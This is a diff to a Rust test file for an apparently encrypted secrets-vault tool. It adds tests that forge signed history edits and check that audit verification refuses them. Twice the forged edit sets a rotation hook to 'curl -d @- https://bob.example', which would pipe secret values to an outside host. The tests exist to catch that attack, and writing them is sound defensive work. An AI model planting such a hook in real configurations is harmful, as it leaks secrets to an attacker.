@@ -11,7 +11,9 @@ use keyward::recipient::short_recipient;
 use predicates::prelude::*;
 use predicates::str::contains;
 
-use crate::support::forge::{append_event, reroot, resign, resign_claiming};
+use crate::support::forge::{
+    append_event, reroot, resign, resign_claiming, resign_hiding_settings,
+};
 use crate::support::team::Team;
 use crate::support::{Sandbox, decrypt_file, edit_image, encrypt_image, open_image};
 
@@ -31,6 +33,19 @@ fn bound_key(kw: &Sandbox, recipient: &str) -> Option<String> {
         .iter()
         .find(|r| r["recipient"] == recipient)
         .and_then(|r| r["signing_key"].as_str().map(str::to_owned))
+}
+
+/// A vault holding `K`, and a `write` member granted by their card: their identity
+/// file and recipient.
+fn with_writer(name: &str) -> (Sandbox, std::path::PathBuf, String) {
+    let kw = Sandbox::with_vault();
+    kw.generate("K");
+    let key = kw.write_identity(&format!("{name}.key"));
+    let recipient = kw.recipient_of(&key);
+    kw.cmd(["access", "grant", &card_of(&kw, &key)])
+        .assert()
+        .success();
+    (kw, key, recipient)
 }
 
 #[test]
@@ -140,13 +155,7 @@ fn a_card_with_a_proof_that_does_not_check_is_refused() {
 
 #[test]
 fn a_member_forging_another_members_change_is_refused_by_its_signature() {
-    let kw = Sandbox::with_vault();
-    kw.generate("K");
-    let bob_key = kw.write_identity("bob.key");
-    let bob = kw.recipient_of(&bob_key);
-    kw.cmd(["access", "grant", &card_of(&kw, &bob_key)])
-        .assert()
-        .success();
+    let (kw, bob_key, bob) = with_writer("bob");
     let alice = kw.my_recipient();
     let alice_key = hex::decode(bound_key(&kw, &alice).unwrap()).unwrap();
     let file = kw.env_file("dev");
@@ -394,13 +403,7 @@ fn a_fresh_runner_pinning_the_trust_root_refuses_a_rewritten_repository() {
 
 #[test]
 fn a_writer_promoting_themselves_by_hand_is_refused_even_signed() {
-    let kw = Sandbox::with_vault();
-    kw.generate("K");
-    let dev_key = kw.write_identity("dev.key");
-    let dev = kw.recipient_of(&dev_key);
-    kw.cmd(["access", "grant", &card_of(&kw, &dev_key)])
-        .assert()
-        .success();
+    let (kw, dev_key, dev) = with_writer("dev");
     // The writer makes themselves admin in the rows, records an ordinary event of their
     // own and signs the result with their own key: a valid signature, by a member.
     let file = kw.env_file("dev");
@@ -458,14 +461,8 @@ fn signatures_stripped_from_a_signed_history_are_refused_where_it_was_seen_signe
 
 #[test]
 fn a_member_founding_the_history_anew_is_refused_where_the_root_was_pinned() {
-    let kw = Sandbox::with_vault();
-    kw.generate("K");
+    let (kw, bob_key, bob) = with_writer("bob");
     let root = kw.stdout(["trust", "root"]).trim().to_owned();
-    let bob_key = kw.write_identity("bob.key");
-    let bob = kw.recipient_of(&bob_key);
-    kw.cmd(["access", "grant", &card_of(&kw, &bob_key)])
-        .assert()
-        .success();
     let alice = kw.my_recipient();
     let file = kw.env_file("dev");
     let image = decrypt_file(&file, &bob_key);
@@ -499,4 +496,112 @@ fn a_member_founding_the_history_anew_is_refused_where_the_root_was_pinned() {
     assert!(other.status.success());
     let err = String::from_utf8_lossy(&other.stderr);
     assert!(err.contains("trust root") && !err.contains(&root), "{err}");
+}
+
+#[test]
+fn an_admin_binding_someone_elses_recipient_to_a_key_of_their_own_is_refused() {
+    let kw = Sandbox::with_vault();
+    kw.generate("K");
+    // Bob is granted by his bare recipient: unbound until his first signed write.
+    let bob_key = kw.write_identity("bob.key");
+    let bob = kw.recipient_of(&bob_key);
+    kw.cmd(["access", "grant", &bob]).assert().success();
+    assert_eq!(bound_key(&kw, &bob), None);
+    let alice = kw.my_recipient();
+    let alice_key = kw.identity.clone().unwrap();
+    // Alice, an admin, binds Bob's recipient to a signing key she holds (her second
+    // identity's) — an access change she may sign — and then writes as "Bob" with it.
+    let spare = kw.write_identity("alice-spare.key");
+    let spare_pub = {
+        let id: age::x25519::Identity = Sandbox::secret_key_of(&spare).parse().unwrap();
+        let secret = keyward::signing::x25519_secret(&id).unwrap();
+        keyward::signing::derive_from_x25519(&secret)
+            .verifying_key()
+            .to_bytes()
+    };
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &alice_key);
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE recipients SET signing_key = ?1 WHERE recipient = ?2",
+            rusqlite::params![&spare_pub[..], bob],
+        )
+        .unwrap();
+        resign(c, &alice_key);
+        c.execute("UPDATE versions SET status = 3", []).unwrap();
+        append_event(c, &bob, Action::Revoke, Some("K"), Some(1));
+        resign_claiming(c, &spare, Some((bob.clone(), spare_pub)));
+    });
+    fs::write(
+        &file,
+        encrypt_image(&forged, &[alice.as_str(), bob.as_str()]),
+    )
+    .unwrap();
+    for state in ["fresh-1", "fresh-2"] {
+        kw.cmd(["audit", "verify"])
+            .env("XDG_STATE_HOME", kw.path(state))
+            .assert()
+            .code(6)
+            .stderr(contains("without a proof"));
+    }
+}
+
+#[test]
+fn a_writer_changing_a_hook_or_the_verifier_key_under_another_event_is_refused() {
+    let (kw, bob_key, bob) = with_writer("bob");
+    kw.set("IMPORTED", "an-imported-value-0123456789");
+    kw.cmd(["hook", "set", "IMPORTED", "--", "echo rolled"])
+        .assert()
+        .success();
+    let alice = kw.my_recipient();
+    let file = kw.env_file("dev");
+    let image = decrypt_file(&file, &bob_key);
+    let recipients = [alice.as_str(), bob.as_str()];
+    // Bob, a writer, records an ordinary `set` — and with it, a rotation hook of his
+    // choosing (or another verifier key), signed as himself, as his role may not.
+    for forge in [
+        "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+        "INSERT INTO verifier_key(id, seed, created) VALUES (1, zeroblob(32), 0)",
+    ] {
+        let forged = edit_image(&image, |c| {
+            c.execute(forge, []).unwrap();
+            append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+            resign(c, &bob_key);
+        });
+        fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+        kw.cmd(["audit", "verify"])
+            .env("XDG_STATE_HOME", kw.path("fresh"))
+            .assert()
+            .code(6)
+            .stderr(contains("may not change rotation hooks, the verifier key"));
+    }
+    // Signed as if the settings were as before: the rows say otherwise.
+    let forged = edit_image(&image, |c| {
+        c.execute(
+            "UPDATE hooks SET command = 'curl -d @- https://bob.example'",
+            [],
+        )
+        .unwrap();
+        append_event(c, &bob, Action::Set, Some("IMPORTED"), Some(1));
+        resign_hiding_settings(c, &bob_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-1"))
+        .assert()
+        .code(6)
+        .stderr(contains("changed without a signed event"));
+    // The same edit as the admin Alice is hers to make.
+    let alice_key = kw.identity.clone().unwrap();
+    let forged = edit_image(&image, |c| {
+        c.execute("UPDATE hooks SET command = 'echo again'", [])
+            .unwrap();
+        append_event(c, &alice, Action::Hook, Some("IMPORTED"), None);
+        resign(c, &alice_key);
+    });
+    fs::write(&file, encrypt_image(&forged, &recipients)).unwrap();
+    kw.cmd(["audit", "verify"])
+        .env("XDG_STATE_HOME", kw.path("fresh-2"))
+        .assert()
+        .success();
 }
